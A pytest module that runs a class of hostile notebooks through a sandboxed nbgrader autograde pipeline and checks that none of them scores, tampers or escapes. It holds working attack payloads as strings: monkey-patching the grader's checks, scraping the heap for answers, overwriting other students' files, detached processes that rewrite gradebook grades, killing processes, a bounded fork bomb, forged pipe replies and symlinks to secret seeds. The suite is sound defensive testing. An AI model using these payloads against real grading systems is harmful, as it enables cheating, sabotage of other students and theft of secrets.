"""Can a hostile notebook game `nbgrader autograde`, hurt another student, or stop the batch?

A temporary copy of the lab (its graders/ and reference/, and the course as its assignments/, tests/course.py),
so that the attacks aim at the very files the grader runs, and one `python -m graders.autograde` for the whole class
(nbgrader's own autograde, one student per Dask task, two students at a time, so attacks also run beside other
students' grading):
- "honest" (the instructor's solutions: 25/25), "blank" (the untouched release: 0/25), and two honest victims,
  "victim-a" and "victim-b", whom the attackers go after (25 each, their submissions untouched);
- one attacker per attack in ATTACKS. An attacker keeps the instructor's solutions but for the task it attacks,
  which it implements not at all (`return x0`, a constant), with the attack at the top level of that solution
  cell and inside the function. So its total must be exactly 25 less that task's points: the attack earns
  nothing and costs only its own task. The few attacks that, at the top level, kill or pre-empt their own grading
  worker while it loads the notebook (`loses_all`) cost the whole notebook instead (graders/runner.py: "a worker
  that dies, stalls or misbehaves while loading the notebook costs every remaining check"), and must score 0.

Attackers sort before everyone else, so they are graded first (two at a time): the victims' notebooks are graded
after the attacks have run, the last attack at most beside them. Then we check that nothing outside nbgrader's own output changed (the course, the copy's
graders/ and reference/, the worker's kit), that no marker file appeared (there, or in this repository), that the
batch finished with a grade for every student, and that no process of a sandbox user outlived the batch. The TA
tool (`python -m graders.compare`) grades the same class and must agree.

Every attack is written so that, should the sandbox ever let it through, the damage stays small and visible:
markers are written first, the lab's files are appended a comment (never truncated), the fork bomb is bounded, and
the lab they aim at is a temporary copy. The module is skipped unless bubblewrap works and we are root (the
sandbox's own users need root): unconfined, these notebooks would really do what they try.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from course import ASSIGNMENT, ROOT, TASKS, TOTAL, cell_scores, new_course, run_nbgrader, write_submission
from graders import engine
from graders.cases import PUBLIC_SEED
from graders.confine import BASE_UID, isolation_problem
from graders.sandbox_users import USERS_PER_POOL

pytestmark = [pytest.mark.slow, pytest.mark.exclusive]

# Faster limits for hostile kernels: a stuck cell is given up after 10 s, a stuck kernel killed after 60 s.
FAST_CONFIG = "c.Execute.timeout = 10\nc.ConfinedKernelManager.wall_s = 60"
SEED = "731942856113"  # the course's secret hidden-case seed; it must not leak into any student's output
MARK = "HOSTILE"  # in the name or content of everything an attack writes
VICTIMS = ("victim-a", "victim-b")
SANDBOX_UIDS = range(BASE_UID, BASE_UID + 2 * USERS_PER_POOL)  # the kernels' and the grading workers' users

confined = pytest.mark.skipif(os.geteuid() != 0 or isolation_problem() is not None,
                              reason=f"hostile notebooks need a working sandbox run as root "
                                     f"({isolation_problem() or 'not root'})")


@dataclass(frozen=True)
class Attack:
    """One attacker: the task whose solution cell it replaces with `source`, and what it tries."""

    number: str
    task: str
    what: str
    source: str  # %ROOT% (the lab), %COURSE% and %STUDENT% are substituted, here and in `files` and `links`
    loses_all: bool = False  # its top-level statement kills (or pre-empts) its own grading worker while loading
    files: tuple[tuple[str, str], ...] = ()  # (name, text): more files handed in beside the notebook
    links: tuple[tuple[str, str], ...] = ()  # (name, target): symbolic links handed in beside the notebook

    @property
    def student(self) -> str:
        return f"attack-{self.number}"

    @property
    def expected(self) -> int:
        return 0 if self.loses_all else TOTAL - TASKS[self.task].points


# ---- the attacks ---------------------------------------------------------------------------------------------

SHADOW = '''import torch


class _Passed:
    """Looks like a CheckResult that passed; raising it does nothing."""
    passed, status, points_lost = True, "passed", 0
    message = "q_sample: passed all 27 cases (max |error| 0)."

    def raise_if_failed(self):
        print(self.message)


def check_q_sample(fn, level="full"):  # shadows the check the test cells call
    return _Passed()


def q_sample(x0, t, noise, alpha_bar):
    global check_q_sample
    check_q_sample = lambda fn, level="full": _Passed()  # again, in case the real one was imported since
    return x0
'''

PATCH_CHECKS = '''import importlib
import sys

import torch


class _Rewire:
    # a class body runs when the cell does: rewire the lab's checks and judge to pass everything
    import graders.checks
    import graders.engine
    import graders.results
    graders.results.CheckResult.raise_if_failed = lambda self: None
    graders.engine._compare = lambda spec, o, truth: None
    graders.engine.judge = lambda plan, replies, *a, **k: graders.results.CheckResult(
        plan.spec.name, plan.level, True, "passed", "passed")


def posterior_mean(x0, x_t, t, betas):
    lab = "".join(("grad", "ers"))  # spelt so that no static look for the package's name finds it
    results, engine, worker = (sys.modules.get(f"{lab}.{m}") for m in ("results", "engine", "worker"))
    if results is not None:
        results.CheckResult.raise_if_failed = lambda self: None
    if engine is not None:
        engine._compare = lambda spec, o, truth: None
        engine.judge = lambda plan, replies, *a, **k: results.CheckResult(
            plan.spec.name, plan.level, True, "passed", "passed")
    if worker is not None:
        worker.static_touches = lambda fn: []  # and lift the rule against using the lab's own code
    reference = importlib.import_module("".join(("refer", "ence")))  # the right answer, if the lab's code is there
    return reference.q_posterior_mean_variance(x0, x_t, t, reference.Schedule.from_betas(betas))[0].to(x0.dtype)
'''

LIAR_TENSOR = '''import torch


class Liar(torch.Tensor):
    """A tensor whose differences vanish, whose comparisons all hold and whose norms are zero."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", str(func))
        with torch._C.DisableTorchFunctionSubclass():
            out = func(*args, **(kwargs or {}))
        if isinstance(out, torch.Tensor) and name in ("sub", "__sub__", "__rsub__", "abs", "max", "amax", "norm"):
            return torch.zeros_like(out)
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__", "isfinite"):
            return torch.ones_like(out, dtype=torch.bool)
        if name == "tolist":
            return [0.0] * out.numel() if isinstance(out, list) else out
        return out.as_subclass(Liar) if isinstance(out, torch.Tensor) else out

    def __repr__(self):
        return "tensor(0.)"


_PROBE = torch.ones(3).as_subclass(Liar) - torch.zeros(3)  # the lie works here: all zeros


def eps_loss(model, x0, t, noise, alpha_bar):
    return ((noise - x0) ** 2).mean().as_subclass(Liar)  # no model call, wrong numbers, dressed up
'''

PATCH_BUILTINS = '''import builtins
import sys

import torch

_REAL_FLOAT, _REAL_SUB = builtins.float, torch.Tensor.__sub__


def _grader_asks(depth):
    """Is the caller the lab's judge (graders.engine, graders.checks), not the worker or the student?"""
    try:
        caller = sys._getframe(depth).f_globals.get("__name__", "")
    except ValueError:
        return False
    return caller in {"".join(("grad", "ers", m)) for m in (".engine", ".checks", ".cases")}


class _FloatType(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _REAL_FLOAT)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _REAL_FLOAT)


class _Float(metaclass=_FloatType):
    """float, but 0.0 whenever the judge measures an error."""

    def __new__(cls, x=0.0):
        return 0.0 if _grader_asks(2) else _REAL_FLOAT(x)


def _sub(self, other):
    out = _REAL_SUB(self, other)
    return torch.zeros_like(out) if _grader_asks(2) else out


def _patch():
    builtins.float = _Float
    torch.Tensor.__sub__ = _sub
    torch.allclose = lambda *a, **k: True


_patch()


def sample_loop(model, x_T, betas, noises):
    _patch()
    return x_T.clone()
'''

STEAL = '''import gc
import inspect

import torch


def _loot(like, inputs):
    """A tensor shaped like the answer that none of our inputs is: from the callers' frames, then the heap."""
    def fresh(v):
        return (isinstance(v, torch.Tensor) and tuple(v.shape) == tuple(like.shape) and v.is_floating_point()
                and not any(v is x or (v.shape == x.shape and torch.equal(v.to(x.dtype), x)) for x in inputs))
    for info in inspect.stack()[1:]:
        for value in list(info.frame.f_locals.values()):
            for v in (value if isinstance(value, (list, tuple)) else [value]):
                if fresh(v):
                    return v
    frame = inspect.currentframe().f_back
    while frame is not None:
        for v in list(frame.f_globals.values()):
            if fresh(v):
                return v
        frame = frame.f_back
    for obj in gc.get_objects():
        if fresh(obj):
            return obj
    return None


_SURVEY = [type(o).__name__ for o in gc.get_objects() if isinstance(o, dict) and "truth" in o]  # top level: the heap


def q_sample(x0, t, noise, alpha_bar):
    found = _loot(x0, (x0, noise))
    return (found if found is not None else x0).detach().to(x0.dtype).clone()
'''

WRITE_OUTSIDE = '''import os
import sys

import torch

ROOT, COURSE, ME = "%ROOT%", "%COURSE%", "%STUDENT%"
MARK = f"\\n# HOSTILE-{ME}: written from inside a sandbox\\n"


def _append(path, text):
    with open(path, "a") as f:
        f.write(text)


def _write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def _vandalise():
    attempts = [
        # the lab's grader and reference (appended, not truncated: the repository stays usable should this pass)
        (_append, f"{ROOT}/graders/checks.py", MARK), (_append, f"{ROOT}/graders/engine.py", MARK),
        (_write, f"{ROOT}/graders/HOSTILE_{ME.replace('-', '_')}.py", MARK),
        (_append, f"{ROOT}/reference/diffusion.py", MARK),
        # the course: its config is code that every nbgrader command runs
        (_append, f"{COURSE}/nbgrader_config.py", f"\\nopen({COURSE!r} + '/HOSTILE-{ME}-config-ran', 'w').close()\\n"),
        # the other students: overwrite one's submission, plant a graded notebook for another, then my own
        (_write, f"{COURSE}/submitted/victim-a/ddpm_core/ddpm_core.ipynb", "{}"),
        (_write, f"{COURSE}/autograded/victim-b/ddpm_core/ddpm_core.ipynb", "{}"),
        (_append, f"{COURSE}/submitted/{ME}/ddpm_core/ddpm_core.ipynb", " "),
        (_write, f"{COURSE}/HOSTILE-{ME}", "escaped"),
        (_write, os.path.join(os.getcwd(), f"HOSTILE-{ME}-cwd"), "escaped"),
    ]
    worker = sys.modules.get("".join(("grad", "ers.worker")))  # the grading worker's own code, shared by every student
    if worker is not None:
        attempts.append((_append, worker.__file__, MARK))
    for action, path, text in attempts:
        try:
            action(path, text)
        except Exception:
            pass
    try:  # the course's secret seed of the hidden cases
        print("HOSTILE seed:", open(f"{COURSE}/hidden_seed.txt").read())
    except Exception:
        pass


_vandalise()


def posterior_mean(x0, x_t, t, betas):
    _vandalise()
    return x_t
'''

DETACHED = '''import os
import posix
import subprocess
import sys

import torch

LATER = """
import sqlite3, time
time.sleep(3)
open("%COURSE%/HOSTILE-%STUDENT%-detached", "w").write("outlived the grader")
db = sqlite3.connect("%COURSE%/gradebook.db", timeout=30)
mine = ("SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
        "WHERE a.student_id = ?")
db.execute(f"UPDATE grade SET auto_score = 100, manual_score = 100 WHERE notebook_id IN ({mine})", ("%STUDENT%",))
db.execute(f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN ({mine})", ("victim-a",))
db.commit()
"""
_launched = False


def _outlive():
    """Leave two processes behind that wake once grading is over: one in a session of its own, one double-forked."""
    try:
        subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    exec(LATER, {})
                finally:
                    posix._exit(0)
        finally:
            posix._exit(0)
    os.waitpid(pid, 0)


_outlive()


def eps_loss(model, x0, t, noise, alpha_bar):
    global _launched
    if not _launched:
        _launched = True
        _outlive()
    return torch.zeros((), dtype=x0.dtype)
'''

LOCK = '''import sqlite3
import subprocess
import sys
import time

import torch

GRADEBOOK = "%COURSE%/gradebook.db"
HOLD = f"""
import sqlite3, time
db = sqlite3.connect({GRADEBOOK!r}, timeout=1, isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
open("%COURSE%/HOSTILE-%STUDENT%-lock", "w").write("holding the gradebook")
time.sleep(60)
"""
_locked = False


def _lock():
    """Hold the gradebook exclusively, here for a while and in a process of its own for longer."""
    try:
        subprocess.Popen([sys.executable, "-c", HOLD], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
    try:
        db = sqlite3.connect(GRADEBOOK, timeout=1, isolation_level=None)
        db.execute("BEGIN EXCLUSIVE")
        open("%COURSE%/HOSTILE-%STUDENT%-lock-here", "w").write("holding the gradebook")
        time.sleep(20)
    except Exception:
        pass


_lock()


def q_sample(x0, t, noise, alpha_bar):
    global _locked
    if not _locked:
        _locked = True
        _lock()
    return x0
'''

KILL = '''import os
import signal

import torch


def _kill_everyone(my_group_too=False):
    try:
        os.kill(os.getppid(), signal.SIGKILL)  # whoever started me: the grader?
    except OSError:
        pass
    for name in os.listdir("/proc"):  # everyone else I can see
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    if my_group_too:
        os.killpg(0, signal.SIGKILL)  # my process group, myself included


_kill_everyone()


def posterior_mean(x0, x_t, t, betas):
    _kill_everyone(my_group_too=True)
    return x_t
'''

KILL_TOP = '''import os
import signal

import torch

os.killpg(0, signal.SIGKILL)  # at the top level: my process group, myself included


def posterior_mean(x0, x_t, t, betas):
    return x_t
'''

EXIT = '''import os
import posix

import torch

os._exit(3)  # at the top level: the grading worker turns os._exit into an exception; the kernel dies


def eps_loss(model, x0, t, noise, alpha_bar):
    posix._exit(0)  # posix._exit is not patched: the process ends, "successfully"
'''

EXIT_TOP = '''import posix

import torch

posix._exit(0)  # at the top level: the process loading the notebook ends


def eps_loss(model, x0, t, noise, alpha_bar):
    return torch.zeros((), dtype=x0.dtype)
'''

HANG = '''import signal

import torch

signal.signal(signal.SIGINT, signal.SIG_IGN)  # no KeyboardInterrupt: the kernel's interrupt does nothing
signal.signal(signal.SIGALRM, signal.SIG_IGN)  # no alarm: a time limit built on SIGALRM does nothing
while True:
    pass


def sample_loop(model, x_T, betas, noises):
    raise NotImplementedError
'''

LIMITS = '''import os
import posix
import resource
import time

import torch


def _lift_limits():
    try:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass


_lift_limits()
try:
    _hog = bytearray(20 * 2**30)  # 20 GB
except MemoryError:
    _hog = None
_children = []
for _ in range(2000):  # bounded: uncontained, 2000 sleeping processes would not take the machine down
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        posix._exit(0)
    _children.append(pid)
print(f"HOSTILE fork bomb: {len(_children)} children")


def posterior_mean(x0, x_t, t, betas):
    _lift_limits()
    hog = torch.empty(20 * 2**30, dtype=torch.uint8)  # 20 GB
    return x_t
'''

FORGE = '''import json
import os

import torch


def _pipes():
    """The pipes this process may write to: the grader's protocol channel among them."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:") and int(name) > 0:
                found.append(int(name))
        except OSError:
            pass
    return found


def _reply(x):
    """A well-formed reply carrying plausible numbers: roughly x_t, but not eq. 4."""
    fake = x.double() * 0.9
    tensor = {"dtype": str(x.dtype).removeprefix("torch."), "shape": list(x.shape), "device": "cpu",
              "data": fake.flatten().tolist()}
    return {"kind": "ok", "output": {"tensor": tensor}, "changed": [], "model_calls": None, "printed": 0,
            "warned": None, "seconds": 0.001}


_PIPES = _pipes()  # top level: find the channel


def q_sample(x0, t, noise, alpha_bar):
    for fd in _pipes():
        for index in range(8):
            try:
                os.write(fd, (json.dumps(["reply", index, _reply(x0)]) + "\\n").encode())
            except OSError:
                pass
    return (x0.double() * 0.9).to(x0.dtype)
'''

FORGE_TOP = '''import json
import os

import torch

_FAKE = {"kind": "ok", "output": {"tensor": {"dtype": "float64", "shape": [3, 2], "device": "cpu",
                                             "data": [0.5, -0.25, 0.1, 0.9, -1.2, 0.3]}},
         "changed": [], "model_calls": None, "printed": 0, "warned": None, "seconds": 0.001}
_LINES = [["loaded", []]] + [m for i in range(8) for m in (["reply", i, _FAKE], ["unit_done", i])] + [["done"]]
for _name in os.listdir("/proc/self/fd"):  # at the top level: speak the protocol before the worker does
    try:
        if os.readlink(f"/proc/self/fd/{_name}").startswith("pipe:") and int(_name) > 0:
            os.write(int(_name), "".join(json.dumps(m) + "\\n" for m in _LINES).encode())
    except OSError:
        pass


def q_sample(x0, t, noise, alpha_bar):
    return x0
'''

LOOKUP = '''import torch

TABLE = %TABLE%  # the answers to the public cases, computed at home with the lab's reference/


def q_sample(x0, t, noise, alpha_bar):
    key = f"{tuple(x0.shape)}|{x0.dtype}|{float(x0.double().sum()):.12e}"
    if key in TABLE:
        shape, data = TABLE[key]
        return torch.tensor(data, dtype=torch.float64).reshape(shape).to(x0.dtype)
    return x0
'''

LAUNCHER_SHADOW = '''import torch


def q_sample(x0, t, noise, alpha_bar):
    return x0
'''
# Handed in beside the notebook: nbgrader copies them into the folder the kernel launcher (unconfined) starts in.
ESCAPE = '''import os
open("%COURSE%/HOSTILE-%STUDENT%-launcher", "w").write(f"ran unconfined as uid {os.getuid()}")
raise SystemExit(1)
'''

SEED_LINK = '''import torch

for _name in ("seed.txt", "source.json"):  # links handed in beside the notebook, to the course's files
    try:
        _text = open(_name).read()
        print(f"HOSTILE {_name}:", _text if len(_text) < 100 else [ln for ln in _text.splitlines() if "HIDDEN" in ln])
    except OSError as e:
        print(f"no {_name}:", e)


def q_sample(x0, t, noise, alpha_bar):
    return x0
'''

TAMPER = '''import torch


def q_sample(x0, t, noise, alpha_bar):
    return x0
'''

ATTACKS = [
    Attack("01-shadow", "q_sample", "defines its own check_q_sample whose result never raises", SHADOW),
    Attack("02-patch-checks", "posterior_mean", "patches CheckResult.raise_if_failed, engine.judge, engine._compare "
           "from a class body and in the function, and imports reference/ by a computed name", PATCH_CHECKS),
    Attack("03-liar-tensor", "eps_loss", "returns a torch.Tensor subclass whose __torch_function__ zeroes every "
           "difference and fakes every comparison", LIAR_TENSOR),
    Attack("04-patch-builtins", "sample_loop", "replaces builtins.float, torch.Tensor.__sub__ and torch.allclose "
           "with versions that lie to the judge's code only", PATCH_BUILTINS),
    Attack("05-steal", "q_sample", "looks for the expected answer in its callers' frames and on the heap", STEAL),
    Attack("06-write-outside", "posterior_mean", "writes to graders/, reference/, the course's nbgrader_config.py, "
           "victim-a's submission, victim-b's autograded folder, its own submission, the worker's code; reads the "
           "course's secret seed", WRITE_OUTSIDE),
    Attack("07-detached", "eps_loss", "leaves a setsid'd and a double-forked process behind that rewrite "
           "gradebook.db a few seconds later", DETACHED),
    Attack("08-lock", "q_sample", "holds an exclusive SQLite lock on gradebook.db, in place and from a detached "
           "process", LOCK),
    Attack("09-kill", "posterior_mean", "SIGKILLs its parent and every pid in /proc at the top level, its own "
           "process group in the function", KILL),
    Attack("09b-kill-top", "posterior_mean", "SIGKILLs its own process group at the top level", KILL_TOP,
           loses_all=True),
    Attack("10-exit", "eps_loss", "os._exit at the top level, posix._exit(0) in the function", EXIT),
    Attack("10b-exit-top", "eps_loss", "posix._exit(0) at the top level", EXIT_TOP, loses_all=True),
    Attack("11-hang", "sample_loop", "ignores SIGINT and SIGALRM, then loops forever at the top level", HANG),
    Attack("12-limits", "posterior_mean", "raises RLIMIT_AS and allocates 20 GB; forks 2000 sleeping children",
           LIMITS),
    Attack("13-forge", "q_sample", "writes well-formed replies with plausible numbers to every pipe it holds",
           FORGE),
    Attack("13b-forge-top", "q_sample", "speaks the whole protocol (loaded, replies, unit_done, done) at the top "
           "level, before the worker does", FORGE_TOP, loses_all=True),
    Attack("14-tamper-tests", "q_sample", "rewrites its test cells to print 'passed' and sets their points to 100",
           TAMPER),
    Attack("15-lookup", "q_sample", "answers from a table of the public cases' answers (sanity cases, and the "
           "hidden cases under the public seed), computed at home with reference/", LOOKUP),
    Attack("16-shadow-launcher", "q_sample", "hands in graders/__init__.py and graders/kernel.py beside the notebook, "
           "for `python -m graders.kernel` (the unconfined kernel launcher) to import from the notebook's folder",
           LAUNCHER_SHADOW, files=(("graders/__init__.py", ESCAPE), ("graders/kernel.py", ESCAPE))),
    Attack("17-links", "q_sample", "hands in symbolic links to the course's secret seed and to the source notebook "
           "(solutions, hidden tests) beside the notebook, and prints what it reads through them", SEED_LINK,
           links=(("seed.txt", "%COURSE%/hidden_seed.txt"),
                  ("source.json", f"%COURSE%/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"))),
]
BY_STUDENT = {a.student: a for a in ATTACKS}

def lookup_table(task: str) -> dict[str, tuple[list[int], list[float]]]:
    """x0's shape, dtype and sum -> the expected output of `task` on every public case (sanity, hidden@public seed)."""
    spec = TASKS[task]
    table = {}
    for level in ("sanity", "full"):
        plan = engine.plan(spec, level, PUBLIC_SEED)
        for case, inputs in zip(plan.cases, plan.inputs):
            x0 = inputs[0]
            truth = spec.truth(case, inputs).to(x0.dtype)
            key = f"{tuple(x0.shape)}|{x0.dtype}|{float(x0.double().sum()):.12e}"
            table[key] = (list(truth.shape), truth.double().flatten().tolist())
    return table


def substitute(text: str, attack: Attack, lab: Path) -> str:
    return (text.replace("%ROOT%", str(lab)).replace("%COURSE%", str(lab / "assignments"))
            .replace("%STUDENT%", attack.student))


def write_attacker(lab: Path, attack: Attack, release: nbformat.NotebookNode, solutions: dict[str, str]) -> None:
    """The attacker's submission: the instructor's solutions but the attacked task's, plus any files and links."""
    source = substitute(attack.source, attack, lab)
    if "%TABLE%" in source:
        source = source.replace("%TABLE%", repr(lookup_table(attack.task)))
    course = lab / "assignments"
    write_submission(course, attack.student, release, {**solutions, attack.task: source})
    folder = course / "submitted" / attack.student / ASSIGNMENT
    for name, text in attack.files:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(substitute(text, attack, lab))
    for name, target in attack.links:
        (folder / name).symlink_to(substitute(target, attack, lab))


def tamper_test_cells(course: Path, student: str, task: str) -> None:
    """Rewrite the submitted notebook's test cells of `task`: print a pass, claim 100 points each."""
    path = course / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id", "").startswith(f"test_{task}_"):
            cell.source = f'print("{task}: passed all cases (max |error| 0).")'
            meta["points"] = 100
    nbformat.write(nb, path)


# ---- what must not change ------------------------------------------------------------------------------------

NBGRADER_WRITES = ("autograded", "feedback", "gradebook.db", "gradebook.db-journal", "gradebook.db-wal",
                   "gradebook.db-shm", "grades.csv", ".nbgrader.log",
                   "refused", "not_graded")  # the grading's own records (graders/submission_files.py, faults.py)


def snapshot(lab: Path) -> dict[str, str]:
    """sha256 of every file under the lab's copy: its course (but what nbgrader itself writes), graders/ and
    reference/ (but __pycache__), by path; symlinks (not followed) and folders count too."""
    out = {}
    roots = [(lab / "assignments", NBGRADER_WRITES), (lab / "graders", ()), (lab / "reference", ())]
    for root, skipped in roots:
        for path in sorted(root.rglob("*")):
            rel = path.relative_to(root)
            if rel.parts[0] in skipped or "__pycache__" in rel.parts:
                continue
            key = str(path)
            if path.is_symlink():
                out[key] = "link:" + os.readlink(path)
            elif path.is_dir():
                out[key] = "dir"
            else:
                out[key] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def sandbox_processes(since: float) -> list[str]:
    """'pid uid cmdline' of every process of a sandbox user started after `since` (time.time())."""
    boot = time.time() - float(Path("/proc/uptime").read_text().split()[0])
    ticks = os.sysconf("SC_CLK_TCK")
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            uids = [int(u) for u in re.search(r"^Uid:\s+(.*)$", (proc / "status").read_text(), re.M).group(1).split()]
            started = boot + int((proc / "stat").read_text().rsplit(")", 1)[1].split()[19]) / ticks
            cmdline = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:200]
        except (OSError, AttributeError, IndexError, ValueError):
            continue  # gone meanwhile
        if any(u in SANDBOX_UIDS for u in uids) and started >= since - 1:
            found.append(f"{proc.name} uid={uids[0]} {cmdline}")
    return found


def markers(*folders: Path) -> list[str]:
    """Files under `folders` whose name carries the attacks' mark."""
    return sorted(str(p) for folder in folders if folder.exists() for p in folder.rglob(f"*{MARK}*"))


def worker_kits(since: float) -> list[Path]:
    """The grading worker's kits (graders/runner.py) made since `since`: every student's worker reads them."""
    tmp = Path(os.environ.get("TMPDIR", "/tmp"))
    return [p for p in tmp.glob("ddpm-worker-kit-*") if p.stat().st_mtime >= since - 1]


# ---- the class, graded once ----------------------------------------------------------------------------------

@dataclass
class Graded:
    lab: Path  # the lab's copy: graders/, reference/, and the course as assignments/
    course: Path
    proc: subprocess.CompletedProcess
    seconds: float
    before: dict[str, str]
    after: dict[str, str]
    leftovers: list[str]
    kits: list[Path]
    started: float
    expected: dict[str, int]


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> tuple[Path, nbformat.NotebookNode, dict[str, str]]:
    """A copy of the lab (graders/, reference/) holding a generated course as its assignments/, with the fast
    limits and a secret seed; each class below copies it."""
    lab = tmp_path_factory.mktemp("template") / "lab"
    for name in ("graders", "reference"):
        shutil.copytree(ROOT / name, lab / name, ignore=shutil.ignore_patterns("__pycache__"))
    (lab / "assignments").mkdir()
    start = time.perf_counter()
    release, solutions = new_course(lab / "assignments", FAST_CONFIG)
    seed = lab / "assignments" / "hidden_seed.txt"
    seed.write_text(SEED + "\n")
    seed.chmod(0o600)
    print(f"\ngenerate_assignment: {time.perf_counter() - start:.0f} s")
    return lab, release, solutions


def copy_lab(template, folder: Path) -> Path:
    lab, _, _ = template
    shutil.copytree(lab, folder, symlinks=True)
    return folder


@pytest.fixture(scope="module")
def graded(template, tmp_path_factory) -> Graded:
    _, release, solutions = template
    lab = copy_lab(template, tmp_path_factory.mktemp("hostile") / "lab")
    course = lab / "assignments"
    expected = {"honest": TOTAL, "blank": 0, **{v: TOTAL for v in VICTIMS}}
    write_submission(course, "honest", release, solutions)
    write_submission(course, "blank", release, None)
    for victim in VICTIMS:
        write_submission(course, victim, release, solutions)
    for attack in ATTACKS:
        write_attacker(lab, attack, release, solutions)
        expected[attack.student] = attack.expected
    tamper_test_cells(course, BY_STUDENT["attack-14-tamper-tests"].student, "q_sample")

    before = snapshot(lab)
    started = time.time()
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "graders.autograde", ASSIGNMENT, "--course", str(course), "--workers",
                           "2", "--no-progress"], cwd=lab, env={**os.environ, "PYTHONPATH": str(lab)},
                          capture_output=True, text=True, timeout=900)
    seconds = time.perf_counter() - start
    leftovers = sandbox_processes(started)
    after = snapshot(lab)
    kits = worker_kits(started)
    print(f"autograde: {len(expected)} submissions in {seconds:.0f} s on 2 workers")
    return Graded(lab, course, proc, seconds, before, after, leftovers, kits, started, expected)


def total(course: Path, student: str) -> float:
    return sum(cell_scores(course, student).values())


def task_scores(course: Path, student: str) -> dict[str, float]:
    scores = cell_scores(course, student)
    return {task: scores[f"test_{task}_sanity"] + scores[f"test_{task}_hidden"] for task in TASKS}


def cell_outputs(course: Path, student: str) -> str:
    """Every output text of the student's autograded notebook, joined."""
    nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    return json.dumps([cell.get("outputs", []) for cell in nb.cells])


# ---- the tests -------------------------------------------------------------------------------------------------

@confined
def test_batch_completes_with_a_grade_for_everyone(graded):
    """Does one parallel autograde of the whole hostile class exit 0 and leave a grade row for every student?"""
    out = graded.proc.stdout[-3000:] + graded.proc.stderr[-3000:]
    assert graded.proc.returncode == 0, out
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{graded.course / 'gradebook.db'}") as gb:
        students = {s.id for s in gb.students}
        for student in graded.expected:
            assert student in students, student
            assert len(cell_scores(graded.course, student)) == 2 * len(TASKS), student


@confined
def test_honest_blank_and_victims_graded_right(graded):
    """Do the honest student and both victims get 25/25, and the untouched release 0, with attackers graded first?"""
    for student in ("honest", "blank", *VICTIMS):
        assert total(graded.course, student) == graded.expected[student], (student, cell_scores(graded.course, student))


@confined
@pytest.mark.parametrize("student", [a.student for a in ATTACKS])
def test_attack_earns_nothing(graded, student):
    """Does the attack score exactly what the attacker's honest tasks earn: 0 for its task, full marks elsewhere?"""
    attack = BY_STUDENT[student]
    scores = task_scores(graded.course, student)
    if attack.loses_all:
        assert scores == {t: 0 for t in TASKS}, f"{student} ({attack.what}): {scores}"
        return
    want = {t: (0 if t == attack.task else TASKS[t].points) for t in TASKS}
    assert scores == want, f"{student} ({attack.what}): {scores}"
    assert total(graded.course, student) == attack.expected


@confined
def test_nothing_outside_the_attackers_folder_changed(graded):
    """Is every file outside nbgrader's own output unchanged: the course, the other submissions, the lab's code?"""
    links = str(graded.course / "submitted" / "attack-17-links")  # its links are set aside, into refused/
    changed = sorted(k for k in graded.before.keys() | graded.after.keys()
                     if graded.before.get(k) != graded.after.get(k) and not k.startswith(links + "/"))
    assert not changed, f"changed during autograde: {changed}"
    assert not markers(graded.lab, ROOT / "graders", ROOT / "reference", ROOT / "assignments")
    for kit in graded.kits:
        for path in kit.rglob("*.py"):
            assert MARK not in path.read_text(), f"the worker's kit was written to: {path}"


@confined
def test_victims_submissions_byte_identical(graded):
    """Are the victims' submitted notebooks byte for byte what they handed in?"""
    for victim in VICTIMS:
        key = str(graded.course / "submitted" / victim / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
        assert graded.before[key] == graded.after[key], victim


@confined
def test_no_sandbox_process_outlives_the_batch(graded):
    """Is no process of a sandbox user (kernel or worker) still running once autograde has returned?"""
    assert not graded.leftovers, graded.leftovers


@confined
def test_no_marker_appears_later(graded):
    """Once the detached processes' sleep is over, has none of them written anything, nor changed a grade?"""
    time.sleep(max(0.0, graded.started + 8 - time.time()))
    assert not markers(graded.lab, ROOT / "graders", ROOT / "reference", ROOT / "assignments")
    assert total(graded.course, "victim-a") == TOTAL
    assert total(graded.course, "attack-07-detached") == BY_STUDENT["attack-07-detached"].expected


@confined
def test_secret_seed_never_reaches_a_student(graded):
    """Does no autograded notebook (the feedback's source) show the course's secret seed, even through a link?

    nbgrader's autograde copies what a link beside the notebook points to into the notebook's folder; the seed's
